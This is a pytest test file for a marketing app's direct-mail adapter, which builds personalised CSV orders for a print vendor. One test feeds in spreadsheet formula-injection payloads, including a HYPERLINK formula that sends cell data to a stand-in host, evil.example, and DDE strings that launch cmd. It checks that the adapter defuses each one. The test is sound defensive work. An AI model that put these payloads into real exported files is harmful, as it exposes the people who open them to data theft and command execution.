"""Direct mail: the print vendor's CSV (personalised, defused against formula injection),
who is left out, and the POST to the vendor."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from como.channels.direct_mail.adapter import adapter
from como.channels.errors import ChannelRejected, PayloadInvalid
from como.channels.models import ChannelAccount, TransportKind
from como.consent.models import SuppressionReason
from como.consent.services import suppress
from como.leads.models import Contact
from como.workspaces.models import Workspace
from tests.factories import ContactFactory

from .ads_support import Action, PlatformServer, recorded
from .sandbox_support import recorded_secret

pytestmark = pytest.mark.django_db
AT = datetime(2026, 3, 2, 15, 0, tzinfo=UTC)
TEMPLATE = "Dear {{ contact.first_name }}, visit {{ sender.name }} this spring."
ADDRESS = {"address_line1": "12 Elm St", "address_line2": "Apt 4", "city": "Springfield"}


def person(workspace: Workspace, first: str, last: str = "Doe", **fields: Any) -> Contact:
    defaults: dict[str, Any] = {
        "attributes": ADDRESS,
        "region": "IL",
        "postal_code": "62701",
        "country": "US",
        "phone": "",
    }
    return ContactFactory.create(
        workspace=workspace, first_name=first, last_name=last, **(defaults | fields)
    )


@pytest.fixture
def vendor(workspace: Workspace) -> ChannelAccount:
    return ChannelAccount.objects.create(
        workspace=workspace,
        channel="direct_mail",
        base_url="https://print.example.com/v1/orders",
        credentials={"api_key": "pv-key"},
    )


def parsed(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def test_csv_request_with_personalised_letters(
    workspace: Workspace, vendor: ChannelAccount
) -> None:
    ana = person(workspace, "Ana", "Lopez")
    bo = person(workspace, "Bo", "Chen", attributes={"address_line1": "1 Oak Rd", "city": "Peoria"})
    result = adapter.execute(
        Action(
            workspace, "direct_mail_send", {"contact_ids": [ana.pk, bo.pk], "template": TEMPLATE}
        ),
        "dm-1",
    )
    [request] = recorded(workspace, "direct_mail")
    assert request.method == "POST"
    assert request.url == "https://print.example.com/v1/orders"
    assert request.headers == {
        "Content-Type": "text/csv; charset=utf-8",
        "Idempotency-Key": "dm-1",
        "Authorization": recorded_secret("Bearer pv-key"),
    }
    name = workspace.name
    assert request.body == (
        "contact_id,name,address_line1,address_line2,city,region,postal_code,country,message\r\n"
        f"{ana.pk},Ana Lopez,12 Elm St,Apt 4,Springfield,IL,62701,US,"
        f'"Dear Ana, visit {name} this spring."\r\n'
        f'{bo.pk},Bo Chen,1 Oak Rd,,Peoria,IL,62701,US,"Dear Bo, visit {name} this spring."\r\n'
    )
    assert result["pieces"] == 2
    assert result["external_id"] == request.response["body"]["id"]
    assert result["sandbox"] is True
    assert (
        adapter.execute(
            Action(
                workspace,
                "direct_mail_send",
                {"contact_ids": [ana.pk, bo.pk], "template": TEMPLATE},
            ),
            "dm-1",
        )
        == result
    )
    assert len(recorded(workspace, "direct_mail")) == 1


@pytest.mark.parametrize(
    "malicious",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\tTAB=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_is_defused_in_every_cell(
    workspace: Workspace, vendor: ChannelAccount, malicious: str
) -> None:
    evil = person(
        workspace,
        malicious,
        malicious,
        attributes={"address_line1": malicious, "city": "=cmd", "address_line2": "@x"},
    )
    adapter.execute(
        Action(
            workspace,
            "direct_mail_send",
            {"contact_ids": [evil.pk], "template": "{{ contact.last_name }}"},
        ),
        "dm-evil",
    )
    [request] = recorded(workspace, "direct_mail")
    [header, row] = parsed(request.body)
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == f"'{malicious} {malicious}"
    assert cells["address_line1"] == "'" + malicious
    assert cells["address_line2"] == "'@x"
    assert cells["city"] == "'=cmd"
    assert cells["message"] == "'" + malicious
    for value in row:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_safe_text_is_left_alone(workspace: Workspace, vendor: ChannelAccount) -> None:
    ok = person(workspace, "Zoë", "O'Neil, Jr.")
    adapter.execute(
        Action(workspace, "direct_mail_send", {"contact_ids": [ok.pk], "template": "Hi 5-star"}),
        "k",
    )
    [request] = recorded(workspace, "direct_mail")
    row = parsed(request.body)[1]
    assert row[1] == "Zoë O'Neil, Jr."
    assert row[-1] == "Hi 5-star"


def test_suppressed_and_unaddressed_are_left_out_and_counted(
    workspace: Workspace, vendor: ChannelAccount
) -> None:
    keep = person(workspace, "Keep", email="keep@example.com")
    erased = person(workspace, "Erased", email="erased@example.com")
    no_city = person(workspace, "NoCity", attributes={"address_line1": "1 A St"})
    no_zip = person(workspace, "NoZip", postal_code="")
    suppress(
        workspace_id=workspace.pk,
        addresses=["erased@example.com"],
        channel="*",
        reason=SuppressionReason.ERASED,
    )
    result = adapter.execute(
        Action(
            workspace,
            "direct_mail_send",
            {"contact_ids": [keep.pk, erased.pk, no_city.pk, no_zip.pk], "template": TEMPLATE},
        ),
        "dm-2",
    )
    assert (
        result["pieces"],
        result["excluded_suppressed"],
        result["excluded_without_address"],
    ) == (
        1,
        1,
        2,
    )
    [request] = recorded(workspace, "direct_mail")
    assert [row[0] for row in parsed(request.body)[1:]] == [str(keep.pk)]


def test_template_errors_are_payload_errors(workspace: Workspace, vendor: ChannelAccount) -> None:
    someone = person(workspace, "Ana")
    action = Action(
        workspace,
        "direct_mail_send",
        {"contact_ids": [someone.pk], "template": "Hi {{ contact.nickname }}"},
    )
    report = adapter.preflight(action, at=AT)
    [finding] = [f for f in report.blocking if f.rule == "direct_mail.payload"]
    assert finding.evidence == {"field": "template"}
    assert "nickname" in finding.message
    with pytest.raises(PayloadInvalid):
        adapter.execute(action, "k")
    assert recorded(workspace, "direct_mail") == []


def test_preflight_renders_the_first_letter(workspace: Workspace, vendor: ChannelAccount) -> None:
    someone = person(workspace, "Ana")
    report = adapter.preflight(
        Action(workspace, "direct_mail_send", {"contact_ids": [someone.pk], "template": TEMPLATE}),
        at=AT,
    )
    assert not [f for f in report.findings if f.rule.startswith("direct_mail.")]


def test_http_transport_posts_the_csv_to_the_vendor(workspace: Workspace) -> None:
    server = PlatformServer(answer={"id": "order_77"}, status=201)
    for url in server.serve():
        ChannelAccount.objects.create(
            workspace=workspace,
            channel="direct_mail",
            transport=TransportKind.HTTP,
            base_url=f"{url}/v1/orders",
            credentials={"api_key": "pv-key"},
        )
        ana = person(workspace, "=Ana")
        result = adapter.execute(
            Action(workspace, "direct_mail_send", {"contact_ids": [ana.pk], "template": TEMPLATE}),
            "dm-http",
        )
    [received] = server.requests
    assert received.path == "/v1/orders"
    assert received.headers["content-type"] == "text/csv; charset=utf-8"
    assert received.headers["idempotency-key"] == "dm-http"
    assert received.headers["authorization"] == "Bearer pv-key"
    rows = parsed(received.body.decode())
    assert rows[1][1] == "'=Ana Doe"
    assert rows[1][-1] == f"Dear =Ana, visit {workspace.name} this spring."
    assert (result["external_id"], result["sandbox"], result["pieces"]) == ("order_77", False, 1)
    assert recorded(workspace, "direct_mail") == []


def test_an_http_account_without_a_vendor_url_blocks_and_sends_nothing(
    workspace: Workspace,
) -> None:
    ChannelAccount.objects.create(
        workspace=workspace, channel="direct_mail", transport=TransportKind.HTTP, base_url=""
    )
    ana = person(workspace, "Ana")
    action = Action(workspace, "direct_mail_send", {"contact_ids": [ana.pk], "template": TEMPLATE})

    [finding] = [f for f in adapter.preflight(action, at=AT).blocking if f.rule.startswith("dir")]
    assert finding.rule == "direct_mail.account"
    # Refused for good, not a TransientError retried against https://print-vendor.invalid.
    with pytest.raises(ChannelRejected, match="no base_url"):
        adapter.execute(action, "dm-no-vendor")
    assert recorded(workspace, "direct_mail") == []


@pytest.mark.parametrize(("transport", "sandbox"), [("sandbox", True), ("http", False)])
def test_nothing_to_mail_reports_the_accounts_transport(
    workspace: Workspace, transport: str, sandbox: bool
) -> None:
    ChannelAccount.objects.create(
        workspace=workspace,
        channel="direct_mail",
        transport=transport,
        base_url="https://print.example.com/v1/orders",
    )
    unaddressed = person(workspace, "NoZip", postal_code="")
    result = adapter.execute(
        Action(
            workspace, "direct_mail_send", {"contact_ids": [unaddressed.pk], "template": TEMPLATE}
        ),
        "dm-empty",
    )
    assert (result["pieces"], result["external_id"], result["sandbox"]) == (0, "", sandbox)
    assert recorded(workspace, "direct_mail") == []
